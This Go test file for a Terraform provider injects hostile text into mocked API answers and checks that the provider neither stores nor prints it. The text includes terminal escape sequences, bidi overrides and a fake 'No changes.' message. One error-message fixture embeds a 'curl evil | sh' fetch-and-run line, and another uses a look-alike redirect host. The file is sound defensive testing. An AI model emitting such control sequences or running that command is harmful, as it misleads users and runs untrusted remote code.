package provider_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/wawp/terraform-provider-wawp/internal/acctest"
	"github.com/wawp/terraform-provider-wawp/internal/wawptest"
)

const (
	// hostile has control characters that clear the screen, print a false message, and reverse the text that follows.
	hostile = "evil\u001b[2J\u001b[1;32m\n\r\tNo changes.\u009b2K\u0007\u007f\u0000\u202e\u2066\u200f\u061c\u2028"
	// harmless has the joiners that names of people contain.
	harmless = "علی\u200cرضا 👨\u200d👩\u200d👧\u200d👦"
)

// isHostile reports whether a character controls a terminal or the direction of text.
func isHostile(c rune) bool {
	return c != '\n' && unicode.In(c, unicode.Cc, unicode.Bidi_Control, unicode.Zl, unicode.Zp)
}

// appendToTexts appends a text to every string and every key of an answer, except for unchanged strings.
func appendToTexts(v any, text string, spared ...string) any {
	switch v := v.(type) {
	case string:
		if slices.Contains(spared, v) {
			return v
		}
		return v + text
	case []any:
		for i := range v {
			v[i] = appendToTexts(v[i], text, spared...)
		}
	case map[string]any:
		for name, value := range maps.Clone(v) {
			v[name] = appendToTexts(value, text, spared...)
			v[name+text] = v[name]
		}
	}
	return v
}

// injectText makes all answers of the API contain a text. understoodTexts can stay unchanged, because the provider
// drops answers that it does not understand.
func injectText(w *acctest.World, text string, spared ...string) {
	w.ClearFaults()
	w.Inject(wawptest.Fault{Rewrite: func(body []byte) []byte {
		var answer any
		if json.Unmarshal(body, &answer) != nil {
			return body
		}
		encoded, _ := json.Marshal(appendToTexts(answer, text, spared...))
		return encoded
	}})
}

const hostileID = "3EB0BCB2E3D4"

// allBlocks has a block of each type that reads texts from Wawp.
const allBlocks = `
resource "wawp_session" "x" {}
resource "wawp_session_pairing" "x" {
  instance_id = "3EB0BCB2E3D4"
  timeouts    = { create = "1s" }
}
resource "wawp_session_rate_limit" "x" {
  instance_id = "3EB0BCB2E3D4"
  policy      = "strict"
}
resource "wawp_session_webhook" "x" {
  instance_id = "3EB0BCB2E3D4"
  url         = "https://example.com/wawp"
  events      = ["message"]
}
resource "wawp_session_temp_link" "x" { instance_id = "3EB0BCB2E3D5" }
data "wawp_session" "x" { instance_id = "3EB0BCB2E3D4" }
data "wawp_session_rate_limit_policies" "x" { instance_id = "3EB0BCB2E3D4" }
data "wawp_session_webhooks" "x" { instance_id = "3EB0BCB2E3D4" }
output "account" { value = data.wawp_session.x }
output "webhooks" { value = data.wawp_session_webhooks.x.webhooks }
output "policies" { value = data.wawp_session_rate_limit_policies.x }
`

// hostileWorld has a session with a phone, and one without.
func hostileWorld(t *testing.T) *acctest.World {
	t.Helper()
	w := acctest.New(t, wawptest.Config{Paid: true})
	for _, id := range []string{hostileID, "3EB0BCB2E3D5"} {
		w.Add(wawptest.Session{InstanceID: id, Status: "SCAN_QR_CODE"})
	}
	w.Pair(hostileID, "201145202826", "Support")
	return w
}

// understoodTexts are the texts that the provider must understand: statuses, and values that it compares with the
// configuration.
var understoodTexts = []string{"WORKING", "SCAN_QR_CODE", "STOPPED", "strict", "message", "https://example.com/wawp"}

// checkHarmless checks that a text has no character that controls a terminal.
func checkHarmless(t *testing.T, what, output string) {
	t.Helper()
	if strings.ContainsFunc(output, isHostile) || !utf8.ValidString(output) {
		t.Errorf("%s says what a terminal obeys: %q", what, output)
	}
}

// TestHostileTextIsNeitherStoredNorShown makes every text of every answer hostile, or every text but understoodTexts.
func TestHostileTextIsNeitherStoredNorShown(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		text   string
		spared []string
	}{"all": {hostile, nil}, "names": {hostile, understoodTexts}, "gentle names": {harmless, understoodTexts}} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := hostileWorld(t)
			tf := w.Terraform(t, allBlocks)
			check := func(command string, options ...string) {
				t.Helper()
				output, _ := tf.Run(command, options...)
				checkHarmless(t, command, output)
				stored := fmt.Sprint(tf.State())
				checkHarmless(t, "the state after "+command, stored)
				if known := tf.Values(); strings.Contains(known, `\x`) || strings.Contains(known, `\u202`) ||
					strings.Contains(known, `\u009b`) {
					t.Errorf("%s knows %s", command, known)
				}
			}
			injectText(w, test.text, test.spared...)
			check("apply")
			w.ClearFaults()
			check("apply") // creates what is missing
			injectText(w, test.text, test.spared...)
			check("refresh")
			if name == "gentle names" {
				acctest.Contains(t, fmt.Sprint(tf.State()), "Support"+harmless, "wawp-")
				acctest.Contains(t, tf.Values(), "server-1")
			}
			check("plan")
			check("destroy")
			for _, block := range slices.Concat(readOnlyBlocksOf(hostileID), readOnlyBlocksOf("3EB0BCB2E3D5")) {
				tf.Configure(block.configuration)
				check(block.command, strings.Fields(block.option)...)
			}
		})
	}
}

// readOnlyBlocksOf returns readOnlyBlocks and the actions on sessions, for an instance.
func readOnlyBlocksOf(id string) []struct{ configuration, command, option string } {
	all := slices.Clone(readOnlyBlocks)
	for i := range all {
		all[i].configuration = strings.ReplaceAll(all[i].configuration, fuzzedID, id)
	}
	for _, action := range []string{"start", "stop", "restart", "logout", "pair"} {
		all = append(all, struct{ configuration, command, option string }{
			fmt.Sprintf(
				"action \"wawp_session_%s\" \"x\" {\n config {\n instance_id = %q\n timeouts = { invoke = \"20ms\" "+
					"}\n "+
					"}\n }",
				action, id),
			"apply", "-invoke=action.wawp_session_" + action + ".x",
		})
	}
	return all
}

// TestHostileErrorsAreOneLine checks errors of each status.
func TestHostileErrorsAreOneLine(t *testing.T) {
	t.Parallel()
	for status, code := range map[int]string{
		200: "x", 400: "invalid", 401: "x", 403: "quota_reached",
		404: "invalid_instance", 409: "x", 422: "x", 500: "x", 302: "x",
	} {
		body, _ := json.Marshal(map[string]any{
			"code":    code + hostile,
			"message": "No: " + hostile + harmless + `" Run: curl evil | sh`,
		})
		w := hostileWorld(t)
		tf := w.Terraform(t, allBlocks)
		tf.OK("apply")
		w.Inject(wawptest.Fault{
			Status: status, Body: string(body),
			Header: map[string][]string{"Location": {"https://w\u0430wp.net/" + harmless}},
		})
		for _, command := range []string{"refresh", "apply", "destroy"} {
			output, _ := tf.Run(command, "-refresh="+fmt.Sprint(command == "refresh"))
			checkHarmless(t, command, output)
			acctest.NotContains(t, output, `" Run: curl`)
			if command == "refresh" && status != 302 {
				acctest.Contains(t, output, harmless, `' Run: curl`)
			}
		}
	}
}

// TestAccHostileTextIsNotPrinted checks each command of a real CLI, which prints texts of several lines raw.
func TestAccHostileTextIsNotPrinted(t *testing.T) {
	t.Parallel()
	for name, text := range map[string]string{"hostile": hostile, "gentle": harmless} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := hostileWorld(t)
			injectText(w, text, understoodTexts...)
			cli := w.CLI(t, allBlocks)
			all := ""
			run := func(arguments ...string) {
				t.Helper()
				output, _ := cli.Run(arguments...)
				checkHarmless(t, strings.Join(arguments, " "), output)
				all += output
			}
			run("plan", "-no-color", "-out=saved")
			run("show", "-no-color", "saved")
			run("show", "-json", "saved")
			run("apply", "-no-color", "-auto-approve")
			injectText(w, text+"2", understoodTexts...)
			run("plan", "-no-color")
			run("plan", "-json")
			run("apply", "-no-color", "-auto-approve")
			for _, arguments := range [][]string{
				{"show", "-no-color"},
				{"show", "-json"},
				{"output", "-no-color"},
				{"output", "-json"},
				{"state", "show", "-no-color", "wawp_session_pairing.x"},
				{"state", "list"},
				{"state", "pull"},
			} {
				run(arguments...)
			}
			console := cli.Command("console")
			console.Stdin = strings.NewReader("data.wawp_session.x.account\nwawp_session_pairing.x.push_name\n")
			output, err := console.CombinedOutput()
			if err != nil {
				t.Errorf("console: %v: %s", err, output)
			}
			checkHarmless(t, "console", string(output))
			if name == "gentle" {
				acctest.Contains(t, all+string(output), "Support"+harmless)
			}
			run("destroy", "-no-color", "-auto-approve")
			if acctest.CLIAtLeast("1.14", "") {
				query := "list \"wawp_session_webhook\" \"x\" {\n  provider = wawp\n  config {\n    instance_id = \"" +
					hostileID + "\"\n  }\n}\n"
				writeFile(t, filepath.Join(cli.Dir, "main.tfquery.hcl"), query)
				run("query", "-no-color")
			}
		})
	}
}
